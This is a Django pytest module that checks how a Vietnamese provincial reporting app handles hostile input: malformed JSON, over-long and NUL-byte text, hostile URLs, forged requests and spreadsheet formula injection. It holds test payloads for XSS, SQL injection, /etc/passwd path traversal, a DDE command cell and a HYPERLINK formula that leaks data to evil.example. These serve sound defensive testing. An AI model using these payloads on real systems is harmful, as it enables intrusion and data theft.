"""Hostile input: each answered by a clear 4xx (or a form with its errors), nothing stored.

Markup and SQL in text fields are not errors: they are stored as the text they
are, and every page shows them escaped. Vietnamese arrives composed or
decomposed and is stored composed (NFC), and search finds it either way.
Spreadsheet downloads neutralise cells a spreadsheet would run as formulas.

Hostile CSV and XLSX imports (wrong encoding, BOM, merged cells, formulas, a
zip bomb, oversized files, lone carriage returns, binary data, arbitrary bytes)
are covered by tests/indicators/test_imports.py;
``test_the_import_tests_cover_every_hostile_file`` checks that they still do.
"""
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from django.urls import NoReverseMatch, reverse

from indicators.models import Indicator, IndicatorValue
from programmes import selectors
from programmes.models import (
    NodeAnswer,
    Report,
    ReportRevision,
    ReportStatus,
    WebhookSubscription,
)
from tests.factories import ReportFactory, api_client

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script><img src=x onerror="alert(1)">'
SQL = "'; DROP TABLE programmes_report; -- 1' OR '1'='1"
HOSTILE_TEXTS = {"script": SCRIPT, "sql": SQL, "both": f"{SQL} {SCRIPT}"}
BAC_NINH = "Bắc Ninh"
DECOMPOSED = unicodedata.normalize("NFD", BAC_NINH)


def _state(report_id):
    """Everything a write could change about a report, to prove that nothing did."""
    report = Report.objects.get(pk=report_id)
    return (
        report.version, report.status, report.review_comment, report.field_comments,
        selectors.report_content(report), report.revisions.count(),
    )


@pytest.fixture
def draft(personas):
    return ReportFactory(unit=personas.unit, year=2025, quarter=3)


@pytest.fixture
def submitted(personas):
    return ReportFactory(unit=personas.unit, year=2025, quarter=4, status=ReportStatus.SUBMITTED)


@pytest.fixture
def reporter_api(personas):
    return api_client(personas.reporter)


@pytest.fixture
def reviewer_api(personas):
    return api_client(personas.reviewer)


def _url(report, action=""):
    return f"/api/v1/reports/{report.pk}/" + (f"{action}/" if action else "")


def _assert_error_body(response, status=400):
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert isinstance(body, dict) and body, body
    return body


# --- malformed bodies -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b'{"version": 1, "task_groups": [',
        b"{'version': 1}",
        b'{"version": 1,}',
        b"\xff\xfe\x00{",
        b"NaN",
        b'{"version": 1, "task_groups": [{"number": 1, "narrative": "' + b"\\ud800" + b'"}]}',
        b"[" * 1000 + b"]" * 1000,
        b'{"version": 1, "task_groups": ' + b'{"a": ' * 1000 + b"1" + b"}" * 1001,
    ],
    ids=["truncated", "single-quotes", "trailing-comma", "not-utf8", "nan", "lone-surrogate", "nested-1000-arrays",
         "nested-1000-objects"],
)
def test_invalid_json_is_400_and_changes_nothing(reporter_api, draft, raw):
    before = _state(draft.pk)
    response = reporter_api.generic("PATCH", _url(draft), raw, content_type="application/json")
    body = _assert_error_body(response)
    assert "detail" in body or "task_groups" in body or "non_field_errors" in body
    assert _state(draft.pk) == before


@pytest.mark.parametrize("raw", [b"[1, 2]", b'"text"', b"null", b"42", b"{}"])
def test_json_that_is_not_the_expected_object_is_400(reporter_api, draft, raw):
    before = _state(draft.pk)
    response = reporter_api.generic("PATCH", _url(draft), raw, content_type="application/json")
    _assert_error_body(response)
    assert _state(draft.pk) == before


def test_a_form_encoded_body_to_the_json_api_is_415(reporter_api, draft):
    before = _state(draft.pk)
    response = reporter_api.patch(_url(draft), {"version": 1}, format="multipart")
    assert _assert_error_body(response, 415)["code"] == "unsupported_media_type"
    assert _state(draft.pk) == before


@pytest.mark.parametrize(
    "body",
    [
        {"version": 1, "task_groups": "all of them"},
        {"version": 1, "task_groups": [{"number": "1; DROP TABLE x"}]},
        {"version": 1, "task_groups": [{"number": 10**30}]},
        {"version": 1, "task_groups": [{"number": 1, "percent_complete": {"$gt": 0}}]},
        {"version": 1, "task_groups": [{"number": 1, "percent_complete": "1e400"}]},
        {"version": 1, "task_groups": [{"number": 1, "status": "<script>"}]},
        {"version": 1, "indicator_values": [{"code": "TG5-01", "value": [1, 2]}]},
        {"version": 1, "indicator_values": [{"code": "../../etc/passwd", "value": 1}]},
        {"version": "1 OR 1=1"},
        {"version": 10**30},
        {"version": -1},
    ],
    ids=[
        "groups-not-a-list", "number-sql", "number-huge", "operator-object", "number-overflow",
        "status-markup", "value-list", "code-path", "version-sql", "version-huge", "version-negative",
    ],
)
def test_wrong_types_and_shapes_are_400_with_field_errors(reporter_api, draft, body):
    before = _state(draft.pk)
    _assert_error_body(reporter_api.patch(_url(draft), body, format="json"))
    assert _state(draft.pk) == before


# --- over-long strings and NUL bytes ----------------------------------------------------------------------------------


def _patch_group(text_field, value):
    if text_field == "note":
        return {"version": 1, "indicator_values": [{"code": "TG5-01", "value": "1", "note": value}]}
    if text_field == "evidence_links":
        return {"version": 1, "task_groups": [{"number": 1, "evidence_links": [value]}]}
    return {"version": 1, "task_groups": [{"number": 1, text_field: value}]}


LONG = {
    "narrative": "n" * 10_001,
    "note": "n" * 2_001,
    "evidence_links": "https://example.org/" + "a" * 490,
}


@pytest.mark.parametrize("field", sorted(LONG))
def test_over_long_report_text_is_400_and_nothing_is_stored(reporter_api, draft, field):
    before = _state(draft.pk)
    body = _assert_error_body(reporter_api.patch(_url(draft), _patch_group(field, LONG[field]), format="json"))
    assert json.dumps(body).count("characters") >= 1, body
    assert _state(draft.pk) == before


@pytest.mark.parametrize("field", ["narrative", "note", "evidence_links"])
def test_nul_bytes_in_report_text_are_400_and_nothing_is_stored(reporter_api, draft, field):
    before = _state(draft.pk)
    value = "https://example.org/a\x00b" if field == "evidence_links" else "before\x00after"
    _assert_error_body(reporter_api.patch(_url(draft), _patch_group(field, value), format="json"))
    assert _state(draft.pk) == before


REVIEW_TEXTS = [
    ("return", "comment", "c" * 10_001),
    ("return", "comment", "with a \x00 NUL"),
    ("return", "field_comments", {"task_groups.1.narrative": "c" * 2_001}),
    ("return", "field_comments", {"task_groups.1.narrative": "NUL \x00"}),
    ("return", "field_comments", {"x" * 101: "too long a path"}),
    ("approve", "comment", "c" * 10_001),
    ("approve", "comment", "NUL \x00"),
]


@pytest.mark.parametrize("action, field, value", REVIEW_TEXTS)
def test_over_long_or_nul_review_text_is_400_and_nothing_is_stored(reviewer_api, submitted, action, field, value):
    before = _state(submitted.pk)
    body = {"version": 1, field: value}
    if action == "return" and field != "comment":
        body["comment"] = "Please fix."
    _assert_error_body(reviewer_api.post(_url(submitted, action), body, format="json"))
    assert _state(submitted.pk) == before


@pytest.mark.parametrize("value", ["r" * 10_001, "NUL \x00"])
def test_over_long_or_nul_reopen_reason_is_400(reviewer_api, personas, value):
    approved = ReportFactory(unit=personas.unit, year=2026, quarter=1, status=ReportStatus.APPROVED)
    before = _state(approved.pk)
    _assert_error_body(reviewer_api.post(_url(approved, "reopen"), {"version": 1, "reason": value}, format="json"))
    assert _state(approved.pk) == before


@pytest.mark.parametrize("province", ["bac-ninh\x00", "b" * 5_000, "bac-ninh' OR '1'='1", "<script>"])
def test_hostile_province_when_starting_a_report_is_400_and_creates_nothing(reporter_api, province):
    count = Report.objects.count()
    response = reporter_api.post("/api/v1/reports/", {"province": province, "year": 2026, "quarter": 3}, format="json")
    assert "province" in _assert_error_body(response)
    assert Report.objects.count() == count


def test_a_body_above_the_upload_limit_is_refused_without_a_server_error(reporter_api, draft, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100_000
    before = _state(draft.pk)
    response = reporter_api.patch(_url(draft), _patch_group("narrative", "x" * 200_000), format="json")
    assert _assert_error_body(response, 413)["code"] == "request_too_large"
    assert _state(draft.pk) == before


def test_a_twelve_megabyte_body_is_a_json_413_under_the_default_limit(reporter_api, draft):
    before = _state(draft.pk)
    raw = b'{"version": 1, "task_groups": [{"number": 1, "narrative": "' + b"x" * (12 * 1024 * 1024) + b'"}]}'
    response = reporter_api.generic("PATCH", _url(draft), raw, content_type="application/json")
    assert _assert_error_body(response, 413)["code"] == "request_too_large"
    assert _state(draft.pk) == before


# --- hostile URLs and query strings ---------------------------------------------------------------------------------


HOSTILE_URLS = [
    "/api/v1/reports/99999999999999999999999/",
    "/api/v1/provinces/%00/",
    "/api/v1/provinces/?q=%00",
    "/api/v1/provinces/?q=" + "a" * 5_000,
    "/api/v1/provinces/?q=%27%3B%20DROP%20TABLE%20provinces_administrativeunit%3B--",
    "/api/v1/provinces/?ordering=name_vi);DROP TABLE x;--",
    "/api/v1/provinces/?page=-1",
    "/api/v1/provinces/?page_size=99999999999999999999",
    "/api/v1/reports/?province=%00",
    "/api/v1/reports/?year=2025%00",
    "/api/v1/reports/?year=1e400",
    "/api/v1/reports/?status=<script>",
    "/api/v1/indicator-values/?year=99999999999999999999",
    "/api/v1/indicators/%2e%2e%2f%2e%2e%2fetc%2fpasswd/",
    "/provinces/?q=%00",
    "/provinces/?q=" + "a" * 5_000,
    "/provinces/?q=%27%20OR%20%271%27%3D%271",
    "/provinces/?region=%00&kind=<script>",
    "/provinces/%00/",
    "/results/task-groups/99999999999999999999999/",
    "/results/indicators/%3Cscript%3E/",
    "/results/units/bac-ninh/export/?format=%00",
    "/results/units/bac-ninh/export/?format=csv&table=%3Cscript%3E",
    "/?quarter=%00&boundaries=<script>",
    "/?quarter=9999-Q9",
    "/results/completeness/?year=2025&quarter=1%27--",
    "/results/task-groups/1/?year=99999999999&quarter=%00",
    "/results/jobs/99999999999999999999999/",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
@pytest.mark.parametrize("who", ["anonymous", "reviewer"])
def test_hostile_urls_get_a_clear_answer_never_a_server_error(client, personas, url, who):
    if who != "anonymous":
        client.force_login(personas.reviewer)
    count = Report.objects.count()
    response = client.get(url)
    assert response.status_code < 500, response.content[:500]
    assert response.status_code in (200, 302, 400, 401, 403, 404), response.status_code
    if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
        assert b"<script>alert" not in response.content
        assert b"<script>" not in re.sub(rb"<script[^>]*src=[^>]*></script>", b"", response.content)
    assert Report.objects.count() == count


# --- markup and SQL are stored as text and shown escaped ------------------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(HOSTILE_TEXTS))
def test_markup_and_sql_in_report_text_are_stored_as_text(reporter_api, draft, kind):
    text = HOSTILE_TEXTS[kind]
    response = reporter_api.patch(_url(draft), {
        "version": 1,
        "task_groups": [{"number": 1, "narrative": text}],
        "indicator_values": [{"code": "TG5-01", "value": "5", "note": text}],
    }, format="json")
    assert response.status_code == 200, response.content
    assert NodeAnswer.objects.get(report=draft, node__code=1).narrative == text
    assert IndicatorValue.objects.get(report=draft, indicator__code="TG5-01").note == text
    assert response.json()["indicator_values"][0]["note"] == text
    assert Report.objects.count() >= 1  # the table is still there


def test_markup_in_review_comments_is_stored_as_text(reviewer_api, submitted):
    response = reviewer_api.post(_url(submitted, "return"), {
        "version": 1, "comment": SCRIPT, "field_comments": {"task_groups.1.narrative": SQL},
    }, format="json")
    assert response.status_code == 200, response.content
    submitted.refresh_from_db()
    assert submitted.review_comment == SCRIPT
    assert list(submitted.field_comments.values()) == [SQL]
    assert ReportRevision.objects.filter(report=submitted, comment=SCRIPT).exists()


def _approved_with(personas, text):
    report = ReportFactory(unit=personas.unit, year=2025, quarter=3, status=ReportStatus.APPROVED)
    NodeAnswer.objects.filter(report=report).update(narrative=text)
    IndicatorValue.objects.create(
        report=report, indicator=Indicator.objects.get(code="TG5-01"), value=5, note=text
    )
    from indicators.results.services import recompute_results

    recompute_results(report.unit, report.year, report.quarter)
    return report


def _assert_escaped(content, text=SCRIPT):
    assert b"<script>alert" not in content
    assert b"<img src=x" not in content
    assert b"&lt;script&gt;alert(" in content, "the text is shown, escaped"


def test_markup_in_a_narrative_is_inert_on_the_task_group_page(client, personas):
    _approved_with(personas, SCRIPT)
    response = client.get("/results/task-groups/1/?year=2025&quarter=3")
    assert response.status_code == 200
    # Excerpts are plain text: the tags are stripped, what is left is shown escaped.
    assert b"<script>alert" not in response.content
    assert b"<img src=x" not in response.content
    assert b"alert(&quot;xss&quot;)" in response.content


def test_markup_in_report_text_is_shown_escaped_in_the_browsable_api(client, personas, draft):
    NodeAnswer.objects.filter(report=draft).update(narrative=SCRIPT)
    client.force_login(personas.reporter)
    response = client.get(_url(draft), HTTP_ACCEPT="text/html")
    assert response.status_code == 200
    _assert_escaped(response.content)


def test_markup_in_report_text_is_inert_on_the_report_page(client, personas, draft):
    try:
        url = reverse("programmes:report_detail", kwargs={"pk": draft.pk})
    except NoReverseMatch:
        pytest.skip("the report pages are not mounted")
    NodeAnswer.objects.filter(report=draft).update(narrative=SCRIPT)
    IndicatorValue.objects.create(report=draft, indicator=Indicator.objects.get(code="TG5-01"), value=5, note=SCRIPT)
    Report.objects.filter(pk=draft.pk).update(review_comment=SCRIPT, status=ReportStatus.RETURNED)
    client.force_login(personas.reporter)
    response = client.get(url)
    assert response.status_code == 200
    # Narratives keep a safe subset of HTML (nh3): the script is removed; notes and comments are escaped.
    assert b"<script>alert" not in response.content
    assert b"<img src=x" not in response.content
    assert b"&lt;script&gt;alert(" in response.content


def test_api_answers_are_json_that_browsers_will_not_sniff_as_html(reporter_api, draft):
    NodeAnswer.objects.filter(report=draft).update(narrative=SCRIPT)
    response = reporter_api.get(_url(draft))
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_markup_in_a_webhook_url_is_a_form_error_and_nothing_is_stored(client, personas):
    client.force_login(personas.integrator)
    for url in ["javascript:alert(1)", f"https://example.org/{SCRIPT}", "https://exa\x00mple.org/", "h" * 600]:
        response = client.post("/reports/webhooks/new/", {"url": url})
        assert response.status_code == 400, (url, response.status_code)
        assert b"<script>alert" not in response.content
    assert not WebhookSubscription.objects.exists()


@pytest.mark.parametrize("username", ["admin\x00", "a" * 5_000, "' OR '1'='1' --", SCRIPT])
@pytest.mark.parametrize("login", ["accounts:login", "admin:login"])
def test_hostile_login_names_are_form_errors(client, personas, username, login):
    response = client.post(reverse(login), {"username": username, "password": "x"})
    assert response.status_code in (200, 400, 403), response.status_code
    assert b"<script>alert" not in response.content
    assert "_auth_user_id" not in client.session


# --- Vietnamese in composed and decomposed forms ------------------------------------------------------------------------------


def test_decomposed_vietnamese_is_stored_composed(reporter_api, draft):
    text = unicodedata.normalize("NFD", "Triển khai nền tảng số tại Bắc Ninh")
    response = reporter_api.patch(_url(draft), {
        "version": 1,
        "task_groups": [{"number": 1, "narrative": text}],
        "indicator_values": [{"code": "TG5-01", "value": "5", "note": text}],
    }, format="json")
    assert response.status_code == 200, response.content
    stored = NodeAnswer.objects.get(report=draft, node__code=1).narrative
    assert stored == unicodedata.normalize("NFC", text) and stored != text
    note = IndicatorValue.objects.get(report=draft, indicator__code="TG5-01").note
    assert note == unicodedata.normalize("NFC", text)


@pytest.mark.parametrize("query", [BAC_NINH, DECOMPOSED, "bac ninh", "BẮC NINH"], ids=["nfc", "nfd", "ascii", "upper"])
def test_searching_units_finds_bac_ninh_whatever_the_unicode_form(client, query):
    assert DECOMPOSED != BAC_NINH
    page = client.get("/provinces/", {"q": query})
    assert page.status_code == 200
    assert b"/provinces/bac-ninh/" in page.content
    api = client.get("/api/v1/provinces/", {"q": query})
    assert api.status_code == 200
    assert "bac-ninh" in [unit["slug"] for unit in api.json()["results"]]


# --- spreadsheets ---------------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_exports_neutralise_cells_a_spreadsheet_would_run(client, personas):
    indicator = Indicator.objects.get(code="TG5-01")
    indicator.unit = "+cmd|' /C calc'!A0"
    indicator.name_vi = indicator.name_en = FORMULA
    indicator.save()
    _approved_with(personas, "ok")

    csv_response = client.get("/results/units/bac-ninh/export/", {"format": "csv", "table": "indicators"})
    assert csv_response.status_code == 200
    text = csv_response.content.decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text
    assert "'+cmd|" in text
    assert not re.search(r'(^|,)"?[=+@]', text, flags=re.MULTILINE), text

    from openpyxl import load_workbook

    xlsx_response = client.get("/results/units/bac-ninh/export/", {"format": "xlsx", "table": "indicators"})
    assert xlsx_response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content) if xlsx_response.streaming
                                      else xlsx_response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(cell.value == "'" + FORMULA for cell in cells)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert not any(cell.value.startswith(("=", "+", "-", "@")) for cell in cells)


# --- hostile files: covered by the import tests -----------------------------------------------------------------------------------


IMPORT_TESTS = Path(__file__).resolve().parents[1] / "indicators" / "test_imports.py"
HOSTILE_FILES = {
    "wrong encoding": "test_a_csv_that_is_not_utf8_is_refused_with_a_clear_message",
    "byte order mark": "test_csv_with_a_byte_order_mark_and_semicolons_and_decimal_commas",
    "merged cells": "test_xlsx_merged_cells_and_formatting_are_ignored",
    "formulas": "test_xlsx_formulas_are_refused_not_evaluated",
    "zip bomb": "test_an_xlsx_zip_bomb_is_refused_before_it_is_opened",
    "oversized file": "test_a_file_above_the_size_limit_is_refused",
    "too many rows": "test_a_file_above_the_row_limit_is_refused",
    "broken workbook": "test_a_broken_workbook_is_refused",
    "malformed csv": "test_a_malformed_csv_is_refused",
    "other file types": "test_other_file_types_are_refused",
    "carriage returns alone, mixed line endings, NUL bytes, binary .csv, huge fields, empty, header only, "
    "tabs, unreadable zip": "test_a_broken_file_is_refused_with_the_imports_own_error",
    "any bytes at all (hypothesis)": "test_any_bytes_at_all_are_read_or_refused_with_the_imports_own_error",
}


@pytest.mark.parametrize("hostile, test_name", sorted(HOSTILE_FILES.items()))
def test_the_import_tests_cover_every_hostile_file(hostile, test_name):
    assert f"def {test_name}(" in IMPORT_TESTS.read_text(encoding="utf-8"), (
        f"the import tests no longer cover: {hostile}"
    )


@pytest.mark.parametrize("url", ["/api/v1/reports/abc/", "/api/v1/no-such-thing/", "/api/v1/reports/1/%00/"])
def test_unknown_api_urls_answer_the_apis_json_404(client, url):
    response = client.get(url)
    assert response.status_code == 404
    assert response.json() == {"detail": response.json()["detail"], "code": "not_found"}


def test_unknown_pages_answer_an_html_404(client):
    response = client.get("/no-such-page/")
    assert response.status_code == 404
    assert response["Content-Type"].startswith("text/html")


# --- forged requests (CSRF) ---------------------------------------------------------------------------------------------------


def test_a_forged_approval_without_the_csrf_token_is_refused(personas, submitted):
    from django.test import Client

    browser = Client(enforce_csrf_checks=True)
    browser.force_login(personas.reviewer)
    before = _state(submitted.pk)
    page = browser.post(reverse("programmes:report_approve", kwargs={"pk": submitted.pk}), {"version": "1"})
    assert page.status_code == 403
    api = browser.post(_url(submitted, "approve"), {"version": 1}, content_type="application/json")
    assert api.status_code == 403 and "CSRF" in api.json()["detail"]
    assert _state(submitted.pk) == before


def test_the_api_with_a_token_needs_no_csrf_token_and_sends_no_cookie(reviewer_api, submitted):
    response = reviewer_api.post(_url(submitted, "approve"), {"version": 1}, format="json")
    assert response.status_code == 200, response.content
    assert "sessionid" not in response.cookies


def test_logging_out_takes_a_post(client, personas):
    client.force_login(personas.reporter)
    assert client.get(reverse("accounts:logout")).status_code == 405
    assert "_auth_user_id" in client.session
